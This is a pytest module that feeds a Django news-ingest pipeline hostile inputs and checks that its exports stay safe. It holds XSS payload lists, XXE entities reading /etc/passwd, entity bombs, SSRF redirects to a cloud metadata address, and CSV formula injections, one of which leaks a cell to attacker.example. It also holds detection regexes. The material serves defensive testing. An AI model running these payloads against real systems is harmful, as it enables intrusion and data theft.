"""The hostile-input corpus: one case per hostile feed, page or server, each served from 127.0.0.1.

Every case ends in a recorded error with its reason or in clean, safe articles, within the
policy's timeouts, with no half-written row, and without the file read or the request the input
asked for. The count of cases is printed at the end of the run (see test_corpus_size).

What the pipeline stored is then read back through every output that hands it to someone else
(OUTPUTS: the pages, the CSV export, the Atom feed, the API's JSON, the JSON-lines export), and
each must be safe for its reader: no cell a spreadsheet takes for a formula, nothing a feed reader
renders as HTML, no highlight mark that came from the text, no bidi override or other invisible
character, one record per line. A new format (RIS, BibTeX, CSL-JSON) adds its reader to OUTPUTS.
"""

from __future__ import annotations

import csv
import gzip
import io
import ipaddress
import json
import re
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import ThreadingHTTPServer
from pathlib import Path

import feedparser
import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client

from articles.ingest import IngestReport, InProcess, ParsedDocument, article_upsert, path_ingest, url_ingest
from articles.ingest.fetch import FetchPolicy
from articles.models import Article, ArticleVersion, CopyClaim, FeedFetch, IngestItem, ItemStatus

from .conftest import LocalWeb

pytestmark = pytest.mark.django_db

SECRET_FILE_MARK = "root:x:0:0"  # the first line of /etc/passwd, which an XXE would pull in
PARAGRAPHS = (
    "<p>KABUL — Afghan and Taliban negotiators met in Doha on Tuesday to discuss a ceasefire, officials "
    "said, in a meeting that both sides described as useful but difficult for everyone involved.</p>"
    "<p>The talks covered the release of prisoners, the reduction in violence and the agenda of the next "
    "round, and the negotiators agreed to meet again within ten days in the Qatari capital.</p>"
)
UNSAFE = re.compile(r"<script|<iframe|<object|<embed|<svg|<style|\son\w+\s*=|javascript:|vbscript:|data:|style=", re.I)
ALL_PAYLOADS = (
    "<script>alert(1)</script><iframe src='javascript:alert(2)'></iframe>"
    "<img src=x onerror=alert(3)><a href='javascript:alert(4)'>link</a>"
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=='>data link</a>"
    "<svg onload=alert(6)><script>alert(7)</script></svg><div style='background:url(javascript:alert(8))'>styled</div>"
    "<object data='data:text/html,x'></object><embed src='javascript:alert(9)'><form action='javascript:alert(10)'>"
    "<button formaction='javascript:alert(11)'>b</button></form><math><mtext><a href='javascript:alert(12)'>m</a></mtext></math>"
    "<base href='javascript:alert(13)//'><meta http-equiv='refresh' content='0;url=javascript:alert(14)'>"
)


def page(title: str, extra: str = "", *, lang: str = "en", dir_: str = "ltr", paragraphs: str = PARAGRAPHS) -> str:
    return (
        f"<!doctype html><html lang='{lang}' dir='{dir_}'><head><meta charset='utf-8'><title>{title}</title>"
        f"<meta property='og:site_name' content='Hostile Daily'></head><body><article><h1>{title}</h1>"
        f"{paragraphs}{extra}</article></body></html>"
    )


def rss(items: str, *, head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return f'{head}<rss version="2.0"><channel><title>Hostile Feed</title><link>http://127.0.0.1/</link>{items}</channel></rss>'


def rss_item(title: str, link: str, *, guid: str = "", date: str = "Tue, 10 Mar 2020 10:00:00 +0000", content: str = PARAGRAPHS) -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link><guid>{guid or link}</guid><pubDate>{date}</pubDate>"
        f"<description><![CDATA[{content}]]></description></item>"
    )


LAUGHS = "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
)


@dataclass
class Case:
    """One hostile input: `serve` sets up the local web and returns the path to ingest."""

    id: str
    serve: Callable[[LocalWeb, LocalWeb], str]
    expect: str  # "error", "article" (at least one clean article) or "queued" (entries queued, not processed)
    reason: str = ""  # a fragment of the recorded error, when one is expected
    policy: str = "fast"  # "fast" (private addresses allowed), "guarded" (only 127.0.0.1) or "production"
    never_hit: str = ""  # a path on the other server that must see no request
    check: Callable[[], None] | None = None  # anything particular to the case
    first: Callable[[LocalWeb], None] | None = None  # what is stored before the hostile input arrives
    from_file: bool = False  # the served document is ingested as a local file (`ingest FILE`), not fetched


def served(path: str, body: bytes | str, content_type: str = "text/html; charset=utf-8", **options):
    def serve(web: LocalWeb, other: LocalWeb) -> str:
        web.add(path, body, content_type=content_type, **options)
        return path
    return serve


def redirect_to(target: str | Callable[[LocalWeb, LocalWeb], str]):
    def serve(web: LocalWeb, other: LocalWeb) -> str:
        location = target(web, other) if callable(target) else target
        web.add("/go", b"", status=302, headers={"Location": location})
        return "/go"
    return serve


def feed_of(items: Callable[[LocalWeb], str], *, head: str = '<?xml version="1.0" encoding="UTF-8"?>', encoding="utf-8"):
    def serve(web: LocalWeb, other: LocalWeb) -> str:
        web.add("/feed.xml", rss(items(web), head=head).encode(encoding), content_type="application/rss+xml")
        return "/feed.xml"
    return serve


def only_article() -> Article:
    return Article.objects.get()


def assert_title(expected: str) -> Callable[[], None]:
    def check() -> None:
        assert expected in only_article().title
    return check


def assert_body_contains(*fragments: str) -> Callable[[], None]:
    def check() -> None:
        body = only_article().body
        for fragment in fragments:
            assert fragment in body, (fragment, body[:300])
    return check


def assert_published_year(year: int | None) -> Callable[[], None]:
    def check() -> None:
        published = only_article().published_at
        assert (published.year if published else None) == year, published
    return check


def entries_count(expected: int) -> Callable[[], None]:
    def check() -> None:
        assert IngestItem.objects.count() == expected
    return check


def articles_count(expected: int) -> Callable[[], None]:
    def check() -> None:
        assert Article.objects.count() == expected
    return check


def title_bounded() -> None:
    article = only_article()
    assert 0 < len(article.title) <= 1000
    assert "\x00" not in article.title and "\x00" not in article.body


def no_nul(*fragments: str) -> Callable[[], None]:
    """The article is there with the text around the input's NUL bytes joined up, and no NUL stored."""
    def check() -> None:
        article = only_article()
        stored = f"{article.title}\n{article.body}"
        assert "\x00" not in stored
        for fragment in fragments:
            assert fragment in stored, (fragment, stored[:300])
    return check


def fetch_error_names(*fragments: str) -> Callable[[], None]:
    """The feed's fetch record names each skipped entry and why."""
    def check() -> None:
        error = FeedFetch.objects.get().error
        for fragment in fragments:
            assert fragment in error, (fragment, error)
    return check


def json_feed(fields: str):
    body = '{"version": "https://jsonfeed.org/version/1.1", "home_page_url": "http://127.0.0.1:9/", ' + fields + "}"
    return served("/feed.json", body, "application/feed+json")


def loop(web: LocalWeb, other: LocalWeb) -> str:
    web.add("/a", b"", status=302, headers={"Location": web.url("/b")})
    web.add("/b", b"", status=302, headers={"Location": web.url("/a")})
    return "/a"


def to_other_loopback(web: LocalWeb, other: LocalWeb) -> str:
    other.add("/secret", page("Internal only"))
    web.add("/go", b"", status=302, headers={"Location": other.url("/secret")})
    return "/go"


def by_host_name(web: LocalWeb, other: LocalWeb) -> str:
    web.add("/named", page("Reached by name"))
    return web.url("/named").replace("127.0.0.1", "localhost")


def xxe_remote_dtd(web: LocalWeb, other: LocalWeb) -> str:
    other.add("/evil.dtd", '<!ENTITY % all "<!ENTITY send SYSTEM \'file:///etc/passwd\'>">', content_type="application/xml-dtd")
    body = f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{other.url("/evil.dtd")}"><rss version="2.0"><channel><title>t</title>{rss_item("Doha", web.url("/gone/dtd"))}</channel></rss>'
    web.add("/dtd.xml", body, content_type="application/rss+xml")
    return "/dtd.xml"


def xxe_parameter(web: LocalWeb, other: LocalWeb) -> str:
    body = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "{other.url("/evil.dtd")}"> %remote;]>'
        + rss(rss_item("Doha", web.url("/x"))).split("?>", 1)[1]
    )
    web.add("/param.xml", body, content_type="application/rss+xml")
    return "/param.xml"


def big_feed(web: LocalWeb) -> str:
    return "".join(f"<item><title>Item {i}</title><link>{web.url(f'/n/{i}')}</link><guid>g{i}</guid></item>" for i in range(20_000))


def one_guid(web: LocalWeb) -> str:
    return "".join(
        rss_item(f"Doha talks, round {i}", web.url(f"/missing/{i}"), guid="same-guid",
                 content=PARAGRAPHS.replace("Tuesday", f"day {i}").replace("ten days", f"{i + 11} days"))
        for i in range(5)
    )


GZIP_BOMB = gzip.compress(b"<html><body>" + b"A" * 20_000_000 + b"</body></html>")
TEN_MB = b"<html><body>" + b"<p>filler filler filler</p>" * 400_000 + b"</body></html>"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00" + bytes(range(64))
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 16 + b"\x08\x00\x00\x00feed.xml" + b"<rss>" * 10
UNKNOWN_BINARY = bytes(range(256)) * 4  # no known signature; control bytes throughout
GOOD_JSON_ITEM = (
    '{"id": 1, "url": "http://127.0.0.1:9/gone/json", "title": "Doha talks in JSON", "authors": [{"name": "A. Writer"}], '
    '"date_published": "2020-03-10T10:00:00Z", "content_html": "' + PARAGRAPHS + '"}'
)
DARI = (
    "<p>کابل — هیئت‌های مذاکره‌کننده جمهوری اسلامی افغانستان و طالبان روز سه‌شنبه در دوحه دیدار کردند و درباره "
    "آتش‌بس گفتگو نمودند. زلمی خلیلزاد و ملا عبدالغنی برادر نیز در این نشست حضور داشتند.</p>"
    "<p>عبدالله عبدالله گفت که دور بعدی گفتگوها در ده روز آینده در قطر برگزار خواهد شد و هر دو طرف آماده‌اند.</p>"
)
PASHTO = (
    "<p>کابل — د افغانستان د اسلامي جمهوریت او طالبانو استازو د سه شنبې په ورځ په دوحه کې سره ولیدل او د "
    "اوربند په اړه یې خبرې وکړې. زلمی خلیلزاد او ملا عبدالغني برادر هم په غونډه کې ګډون درلود.</p>"
    "<p>ویل شوي چې راتلونکې غونډه به په لسو ورځو کې په قطر کې جوړه شي او دواړه خواوې چمتو دي.</p>"
)

# Cells a spreadsheet would run: OWASP's list of formula starts, and a full-width "=".
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0 Doha talks",
    "-2+3+cmd|' /C calc'!A0 Doha talks",
    "@SUM(1+1)*cmd|' /C calc'!A0 Doha talks",
    '\uff1dHYPERLINK("http://attacker.example/")',
)
SCRIPT_AS_TEXT = "&lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(2)&gt; were in the text"
KNOWN_STORY = "/ledger/doha-round"
ORIGINAL_TITLE = "Khalilzad and Baradar meet in Doha as talks resume"


def formula_feed(web: LocalWeb) -> str:
    return "".join(
        f"<item><title><![CDATA[{formula}]]></title><link>{web.url(f'/gone/formula/{i}')}</link>"
        f"<author>desk@attacker.example (=1+1 {i})</author><pubDate>Tue, 10 Mar 2020 10:00:00 +0000</pubDate>"
        f"<description><![CDATA[<p>{formula}</p>{PARAGRAPHS.replace('Tuesday', f'day {i}')}]]></description></item>"
        for i, formula in enumerate(FORMULAS)
    )


def invisible_feed(web: LocalWeb) -> str:
    return (
        "<item><title>Doha \u202etxt.exe\u202c talks\u200b\ufeff resume</title>"
        f"<link>{web.url('/gone/bidi')}</link><author>desk@hostile.example (By \u2066Jane\u2069 \u200fDoe)</author>"
        "<pubDate>Tue, 10 Mar 2020 10:00:00 +0000</pubDate>"
        f"<description><![CDATA[<p>\u202eKABUL\u202c \u200e\u2067{PARAGRAPHS[3:]}]]></description></item>"
    )


def known_story(web: LocalWeb) -> None:
    """The article a hostile item will name: stored from its own outlet before the hostile input."""
    article_upsert(document=ParsedDocument(
        url=web.url(KNOWN_STORY), title=ORIGINAL_TITLE, source_name="The Kabul Ledger",
        body=re.sub(r"</?p>", "\n\n", PARAGRAPHS).strip(),
    ))


def fake_of_known_story(web: LocalWeb) -> str:
    return rss_item(f"FAKE: {ORIGINAL_TITLE}", web.url(KNOWN_STORY),
                    content="<p>FAKE: the talks collapsed and the envoy flew home, says an item of Hostile Feed.</p>")


def original_untouched(*, copies: int) -> Callable[[], None]:
    """The named article still says what its outlet wrote; the other outlet's item, if stored, is apart."""
    def check() -> None:
        original = Article.objects.get(title=ORIGINAL_TITLE)
        assert original.source.name == "The Kabul Ledger" and "FAKE" not in original.body
        assert not ArticleVersion.objects.exists()
        claims = CopyClaim.objects.all()
        assert len(claims) == copies and all(claim.original == original for claim in claims)
        assert all(claim.article.url.startswith("urn:newsroom:copy:") and claim.article.source.name == "Hostile Feed"
                   for claim in claims)
    return check


def stored_as(*, title: str = "", byline: str = "", source: str = "") -> Callable[[], None]:
    def check() -> None:
        article = only_article()
        assert (article.title if title else "", article.byline if byline else "") == (title, byline)
        assert not source or article.source.name == source
    return check


def titles_kept(*titles: str) -> Callable[[], None]:
    """Stored as the outlet wrote them: neutralising a formula is the CSV writer's job, not storage's."""
    def check() -> None:
        assert set(titles) <= set(Article.objects.values_list("title", flat=True))
    return check


CASES: list[Case] = [
    # Malformed and truncated XML
    Case("truncated-rss", feed_of(lambda w: rss_item("Doha talks resume", w.url("/gone/1")) + "<item><title>Cut off mid"), "article",
         check=assert_title("Doha talks resume")),
    Case("unclosed-tags-in-entry", feed_of(lambda w: rss_item("Unclosed <b>markup", w.url("/gone/2"), content="<p><b><i>" + PARAGRAPHS)), "article"),
    Case("no-root-close", served("/noroot.xml", rss(rss_item("Doha", "http://127.0.0.1:9/x")).removesuffix("</rss>"), "application/rss+xml"), "article"),
    Case("garbage-as-rss", served("/garbage.xml", "<rss><channel><item><title>never closed <<<&&&", "application/rss+xml"), "error"),
    Case("json-feed-broken", served("/feed.json", '{"version": "https://jsonfeed.org/version/1.1", "items": [{"id": ', "application/feed+json"), "error"),
    Case("json-feed-items-not-an-array", json_feed('"items": "none today"'), "error", reason="items is a string, not an array"),
    Case("json-feed-top-level-wrong-types", json_feed('"title": {"en": "Doha"}, "items": []'), "error", reason="title is an object, not a string"),
    Case("json-feed-bad-items-skipped", json_feed(f'"items": [{GOOD_JSON_ITEM}, {{"id": "2", "url": 42, "content_html": "<p>x</p>"}}, '
                                                  '{"id": "3", "title": {"text": "Doha"}, "content_text": "x"}, 3, null, {"id": [1]}]'),
         "article", check=fetch_error_names("item 2: url is a number, not a string; skipped", "item 3: title is an object",
                                            "item 4: a number, not an object", "item 5: null, not an object", "item 6: id is an array")),
    Case("json-feed-every-item-bad", json_feed('"items": [{"id": "1", "content_html": ["<p>x</p>"]}, "item"]'), "error",
         reason="no readable item in the JSON Feed: item 1: content_html is an array, not a string"),
    Case("json-feed-with-nul-bytes", json_feed('"items": [' + GOOD_JSON_ITEM.replace("Doha", "Do\x00ha") + "]"), "article", check=no_nul("Doha")),
    # Entity tricks
    Case("billion-laughs", served("/laughs.xml", f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]><rss version="2.0"><channel><title>&lol9;</title></channel></rss>', "application/rss+xml"), "error", reason="entities"),
    Case("quadratic-blowup", served("/quad.xml", '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "x" * 50_000 + '">]><rss version="2.0"><channel><title>' + "&a;" * 20_000 + "</title></channel></rss>", "application/rss+xml"), "error", reason="declares entities"),
    Case("xxe-local-file", served("/xxe.xml", '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY s SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&s;</title><item><title>&s;</title><link>http://127.0.0.1:9/y</link><description>&s;</description></item></channel></rss>', "application/rss+xml"), "error", reason="entities"),
    Case("xxe-parameter-entity", xxe_parameter, "error", reason="entities", never_hit="/evil.dtd"),
    Case("xxe-external-dtd", xxe_remote_dtd, "article", never_hit="/evil.dtd"),
    # Encodings
    Case("cp1252-claiming-utf8", feed_of(lambda w: rss_item("Envoy’s visit — day one", w.url("/gone/3")), encoding="cp1252"), "article", check=assert_title("Envoy’s visit — day one")),
    Case("latin1-undeclared", served("/latin1", page("Café talks in Doha", "<p>Négociateurs à Doha.</p>").replace("<meta charset='utf-8'>", "").replace("—", "-").encode("latin-1"), "text/html"), "article", check=assert_body_contains("Négociateurs")),
    Case("header-charset-lies", served("/lies", page("Doha round", DARI).encode("utf-8"), "text/html; charset=iso-8859-1"), "article"),
    Case("mixed-encodings", served("/mixed", page("Mixed encodings in Doha").encode("utf-8") .replace(b"</article>", "<p>Caf\u00e9 in cp1252: ".encode() + "é ’".encode("cp1252") + b"</p></article>"), "text/html; charset=utf-8"), "article"),
    Case("utf16-feed-with-bom", feed_of(lambda w: rss_item("Doha talks in UTF-16", w.url("/gone/4")), head='<?xml version="1.0" encoding="UTF-16"?>', encoding="utf-16"), "article", check=assert_title("Doha talks in UTF-16")),
    Case("unknown-charset-name", served("/klingon", page("Doha under an unknown charset").encode(), "text/html; charset=x-klingon"), "article"),
    # Size, compression and slowness
    Case("gzip-bomb", served("/bomb", GZIP_BOMB, headers={"Content-Encoding": "gzip"}), "error", reason="cap"),
    Case("over-the-size-cap", served("/huge", TEN_MB), "error", reason="cap"),
    Case("lying-gzip-header", served("/notgzip", page("Not really gzip"), headers={"Content-Encoding": "gzip"}), "error"),
    Case("trickling-server", served("/drip", b"<html><body>" + b"<p>drip drip drip drip</p>" * 400 + b"</body></html>", drip=0.3), "error", reason="not received within"),
    Case("silent-server", served("/slow", page("Too late"), delay=3), "error", reason="did not answer in time"),
    # Redirects and addresses
    Case("redirect-loop", loop, "error", reason="redirect"),
    Case("redirect-to-metadata", redirect_to("http://169.254.169.254/latest/meta-data/"), "error", reason="link-local", policy="guarded"),
    Case("redirect-to-private-10", redirect_to("http://10.0.0.5/admin"), "error", reason="private", policy="guarded"),
    Case("redirect-to-private-192", redirect_to("http://192.168.1.1/"), "error", reason="private", policy="guarded"),
    Case("redirect-to-other-loopback", to_other_loopback, "error", reason="loopback", policy="guarded", never_hit="/secret"),
    Case("redirect-to-ipv6-loopback", redirect_to("http://[::1]:8000/"), "error", reason="loopback", policy="guarded"),
    Case("redirect-to-unspecified", redirect_to("http://0.0.0.0:8000/"), "error", policy="guarded"),
    Case("redirect-to-decimal-ip", redirect_to("http://2130706434/"), "error", policy="guarded"),
    Case("redirect-to-file-scheme", redirect_to("file:///etc/passwd"), "error", reason="only http and https", policy="guarded"),
    Case("redirect-to-gopher", redirect_to("gopher://127.0.0.1:6379/_INFO"), "error", reason="only http and https", policy="guarded"),
    Case("host-name-resolving-to-loopback", by_host_name, "error", reason="loopback", policy="production"),
    Case("redirect-followed-when-private-allowed", to_other_loopback, "article", check=assert_title("Internal only")),
    # Not HTML, or nothing at all
    Case("pdf", served("/doc.pdf", PDF, "application/pdf"), "error", reason="binary data (a PDF document)"),
    Case("pdf-claiming-html", served("/doc", PDF, "text/html"), "error", reason="binary data (a PDF document)"),
    Case("png-image", served("/img.png", PNG, "image/png"), "error", reason="binary"),
    Case("png-claiming-html", served("/img", PNG, "text/html"), "error", reason="binary data (a PNG image)"),
    Case("jpeg-claiming-rss", served("/photo.xml", JPEG, "application/rss+xml"), "error", reason="binary data (a JPEG image)"),
    Case("zip-claiming-rss", served("/feed.zip", ZIP, "application/rss+xml"), "error", reason="binary data (a zip archive"),
    Case("unknown-binary", served("/blob", UNKNOWN_BINARY, "text/html"), "error", reason="binary data (mostly control characters)"),
    Case("svg-document", served("/pic.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"), "error"),
    Case("empty-200", served("/empty", b""), "error"),
    Case("whitespace-200", served("/blank", b"   \n\t  "), "error"),
    Case("server-error-500", served("/boom", b"oops", status=500), "error", reason="HTTP 500"),
    # Feeds that stretch the rules
    Case("feed-of-20000-items", feed_of(big_feed), "queued", check=entries_count(1000)),
    Case("all-items-share-one-guid", feed_of(one_guid), "article", check=articles_count(5)),
    # Script in every form, in pages and in feeds
    Case("page-with-every-payload", served("/xss", page("Payloads <script>alert(0)</script>in the title", ALL_PAYLOADS)), "article"),
    Case("feed-with-every-payload", feed_of(lambda w: rss_item("Feed payloads", w.url("/gone/5"), content=PARAGRAPHS + ALL_PAYLOADS)), "article"),
    Case("javascript-link-as-entry", feed_of(lambda w: rss_item("A javascript: link", "javascript:alert(1)")), "article"),
    Case("inline-svg-with-script", served("/svg", page("Inline SVG", "<svg><script>alert(1)</script><foreignObject><iframe src='javascript:alert(2)'></iframe></foreignObject></svg>")), "article"),
    Case("canonical-to-javascript", served("/canon", page("Canonical trick").replace("</head>", "<link rel='canonical' href='javascript:alert(1)'></head>")), "article"),
    # Absurd values
    Case("megabyte-title", served("/longtitle", page("Doha " + "talks " * 150_000)), "article", check=title_bounded),
    Case("megabyte-title-in-feed", feed_of(lambda w: rss_item("Doha " * 200_000, w.url("/gone/6"))), "article", check=title_bounded),
    Case("nul-bytes-in-page", served("/nul", page("NUL\x00 in the title", "<p>A NUL\x00 byte in the body.</p>")), "article",
         check=no_nul("NUL in the title", "A NUL byte in the body.")),
    Case("nul-bytes-in-feed", feed_of(lambda w: rss_item("NUL\x00 in a feed", w.url("/gone/7"), content=PARAGRAPHS + "<p>x\x00y</p>")), "article",
         check=no_nul("NUL in a feed", "xy")),
    Case("nul-bytes-in-utf16-feed", feed_of(lambda w: rss_item("NUL\x00 in UTF-16", w.url("/gone/12")), head='<?xml version="1.0" encoding="UTF-16"?>', encoding="utf-16"),
         "article", check=no_nul("NUL in UTF-16")),
    Case("date-far-past", feed_of(lambda w: rss_item("Dated in 1066", w.url("/gone/8"), date="Sat, 14 Oct 1066 09:00:00 +0000")), "article",
         check=assert_published_year(None)),
    Case("date-year-one", feed_of(lambda w: rss_item("Dated in year one", w.url("/gone/9"), date="Mon, 01 Jan 0001 00:00:00 +0000")), "article",
         check=assert_published_year(None)),
    Case("date-far-future", feed_of(lambda w: rss_item("Dated in 9999", w.url("/gone/10"), date="Fri, 31 Dec 9999 23:59:59 -1200")), "article"),
    Case("date-nonsense", feed_of(lambda w: rss_item("Dated nonsense", w.url("/gone/11"), date="the 45th of Smarch")), "article"),
    # Scripts and directions of other languages
    Case("right-to-left-override", served("/rlo", page("Doha \u202etxt.exe\u202c talks", "<p>\u202eReversed\u202c and \u200fmarked\u200f text.</p>")), "article"),
    Case("dari-page", served("/dari", page("گفتگوهای صلح در دوحه", paragraphs=DARI, lang="fa", dir_="rtl")), "article", check=assert_body_contains("زلمی خلیلزاد")),
    Case("pashto-page", served("/pashto", page("په دوحه کې د سولې خبرې", paragraphs=PASHTO, lang="ps", dir_="rtl")), "article", check=assert_body_contains("عبدالغني برادر")),
    # What Newsroom hands on: formulas, markup as text, invisible characters, claims on known URLs
    Case("formula-titles-bylines-and-bodies", feed_of(formula_feed), "article", check=titles_kept(*FORMULAS[:4])),
    Case("formula-in-a-feed-file", feed_of(formula_feed), "article", from_file=True, check=titles_kept(*FORMULAS[:4])),
    Case("script-as-text-in-a-body", feed_of(lambda w: rss_item("Payloads written as words", w.url("/gone/words"),
                                                                content=f"<p>{SCRIPT_AS_TEXT}.</p>" + PARAGRAPHS)),
         "article", check=assert_body_contains("<script>alert(1)</script>")),
    Case("script-as-text-in-json-feed", json_feed('"items": [{"id": "t", "url": "http://127.0.0.1:9/gone/t", "title": "<b>Bold</b> claims", '
                                                  '"content_text": "<script>alert(1)</script> and <img src=x onerror=alert(2)> as plain text.\\n\\n'
                                                  + re.sub(r"</?p>", " ", PARAGRAPHS).strip() + '"}]'),
         "article", check=assert_body_contains("<img src=x onerror=alert(2)>")),
    Case("bidi-and-zero-width-in-title-byline-and-outlet", feed_of(invisible_feed, head='<?xml version="1.0" encoding="UTF-8"?>'),
         "article", check=stored_as(title="Doha txt.exe talks resume", byline="Jane Doe")),
    Case("bidi-override-in-outlet-name", served("/outlet", page("Outlet name trick").replace("Hostile Daily", "Hostile\u202e yliaD\u202c")),
         "article", check=stored_as(source="Hostile yliaD")),
    Case("private-use-markers-in-body", served("/pua", page("Private use in Doha", "<p>A \ue000injected\ue001 mark and \U000f0041 more.</p>")),
         "article", check=assert_body_contains("A injected mark and more.")),
    Case("control-characters-in-json-feed", json_feed('"items": [{"id": "c", "url": "http://127.0.0.1:9/gone/c", "title": "Doha\\u000b talks\\u001b[31m", '
                                                      '"content_html": "' + PARAGRAPHS.replace("Tuesday", "Tuesday\\u2028evening\\u0085") + '"}]'),
         "article", check=stored_as(title="Doha talks[31m")),
    # Another outlet's item naming a stored article's URL: from a local file it is stored apart as a
    # possible copy; a remote feed's is skipped as known. The original is never written over.
    Case("foreign-feed-file-claims-a-known-url", feed_of(fake_of_known_story), "article", first=known_story, from_file=True,
         check=original_untouched(copies=1)),
    Case("foreign-remote-feed-lists-a-known-url", feed_of(fake_of_known_story), "article", first=known_story,
         check=original_untouched(copies=0)),
]

POLICIES = {
    "fast": FetchPolicy(connect_timeout=2, read_timeout=1, total_timeout=3, max_bytes=2_000_000, allow_private=True, host_interval=0),
    "guarded": FetchPolicy(connect_timeout=2, read_timeout=1, total_timeout=3, max_bytes=2_000_000, host_interval=0,
                           allowed_networks=(ipaddress.ip_network("127.0.0.1/32"),)),
    "production": FetchPolicy(connect_timeout=2, read_timeout=1, total_timeout=3, max_bytes=2_000_000, host_interval=0),
}


class OtherLoopback(LocalWeb):
    """The same small web on 127.0.0.2: a host a hostile input must not reach."""

    def __init__(self):
        super().__init__()
        handler = self.server.RequestHandlerClass
        self.server.server_close()
        self.server = ThreadingHTTPServer(("127.0.0.2", 0), handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def base(self) -> str:
        return f"http://127.0.0.2:{self.server.server_address[1]}"


@pytest.fixture
def other_web():
    server = OtherLoopback()
    server.thread.start()
    yield server
    server.server.shutdown()
    server.server.server_close()


def stored_text() -> str:
    """Everything the pipeline wrote that came from the input, as one string."""
    parts = []
    for model, fields in (
        (Article, ("title", "body", "body_html", "byline", "ingest_note", "url")),
        (ArticleVersion, ("title", "body", "body_html", "byline")),
        (IngestItem, ("title", "feed_html", "page_html", "error", "page_note", "url")),
        (FeedFetch, ("error",)),
    ):
        for row in model.objects.values_list(*fields):
            parts.extend(str(value) for value in row)
    return "\n".join(parts)


def assert_nothing_half_written() -> None:
    assert not IngestItem.objects.exclude(status__in=[ItemStatus.DONE, ItemStatus.FAILED, ItemStatus.QUEUED]).exists()
    assert not IngestItem.objects.exclude(page_html="").exists()
    assert not Article.objects.filter(body="").exists()
    assert not Article.objects.filter(title="").exists()


# Outputs: what each hands to its reader, read back as that reader would --------------------------

# Format characters that reorder or hide text (bidi overrides, embeddings, isolates and marks,
# zero-width characters, the BOM, soft hyphens) and private-use characters. The non-joiner and
# joiner are left out: Persian, Pashto and Urdu words need them (the Dari and Pashto cases).
INVISIBLE = re.compile(
    "[\u00ad\u061c\u180e\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff"
    "\ufff9-\ufffb\ue000-\uf8ff\U000f0000-\U0010ffff]"
)
FORMULA_CELL = re.compile("^(?:[\t\r]|\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20])")
LIVE_MARKUP = re.compile(r"<script>|<img\b|<b>Bold|<iframe|<object|<embed", re.I)  # ours have <script src=...> only


def page_output(client: Client) -> Iterator[tuple[str, str]]:
    """Each article's page and versions page, and the list searched for a word of the corpus."""
    for article in Article.objects.all():
        for url in (article.get_absolute_url(), article.get_versions_url()):
            html = client.get(url).content.decode()
            assert not LIVE_MARKUP.search(html), (url, LIVE_MARKUP.search(html).group(0))
            yield url, html
    html = client.get("/articles/", {"relevant": "all", "q": "Doha"}).content.decode()
    marked = re.findall(r"<mark>(.*?)</mark>", html, re.S)
    assert all(text.lower().startswith("doha") for text in marked), marked  # our marks only, on the query's word
    yield "list", html


def csv_output(client: Client) -> Iterator[tuple[str, str]]:
    """The CSV export of every copy read back as cells: none a spreadsheet would take for a formula."""
    response = client.get("/articles/export.csv", {"relevant": "all", "copies": "all"})
    text = b"".join(response.streaming_content).decode()
    csv.field_size_limit(20_000_000)  # the megabyte titles are one cell each
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == Article.objects.count() + 1
    for row in rows:
        for cell in row:
            assert not FORMULA_CELL.match(cell), cell[:80]
    yield "csv", text


def atom_output(client: Client) -> Iterator[tuple[str, str]]:
    """The Atom feed: well-formed XML, and nothing declared HTML, so a reader renders nothing of the text."""
    response = client.get("/articles/feed/", {"relevant": "all", "copies": "all"})
    assert response.status_code == 200
    xml = response.content.decode()
    ET.fromstring(response.content)  # noqa: S314 (our own feed)
    assert 'type="html"' not in xml and 'type="xhtml"' not in xml
    parsed = feedparser.parse(response.content, sanitize_html=False)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert len(parsed.entries) == min(Article.objects.count(), 50)
    for entry in parsed.entries:
        for detail in ("title_detail", "summary_detail"):
            assert entry[detail]["type"] == "text/plain", (detail, entry[detail])
    yield "atom", xml


def api_output(client: Client) -> Iterator[tuple[str, str]]:
    """The API's list, each article and its versions: JSON whose URLs are web addresses or our own identifiers."""
    listing = client.get("/api/articles/", {"relevant": "all", "copies": "all", "page_size": 100})
    yield "api list", listing.content.decode()
    for item in listing.json()["results"]:
        for url in (f"/api/articles/{item['id']}/", f"/api/articles/{item['id']}/versions/"):
            response = client.get(url)
            assert response.status_code == 200 and response["Content-Type"] == "application/json"
            yield url, response.content.decode()
        assert item["url"].startswith(("http://", "https://", "urn:")), item["url"]


def jsonl_output(client: Client) -> Iterator[tuple[str, str]]:
    """The JSON-lines export: one record a line, for any line splitter (str.splitlines splits on more than \\n)."""
    out = io.StringIO()
    call_command("export_articles", stdout=out)
    lines = out.getvalue().splitlines()
    assert len(lines) == Article.objects.count()
